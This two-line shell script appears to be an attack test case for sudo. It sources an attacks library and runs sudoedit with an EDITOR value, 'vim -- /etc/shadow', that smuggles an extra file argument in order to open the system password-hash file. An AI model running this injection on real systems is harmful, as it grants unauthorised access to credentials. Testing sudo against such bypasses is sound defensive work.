. "$ATTACKS/lib.sh"
EDITOR='vim -- /etc/shadow' as sudoedit nothing -- /etc/motd
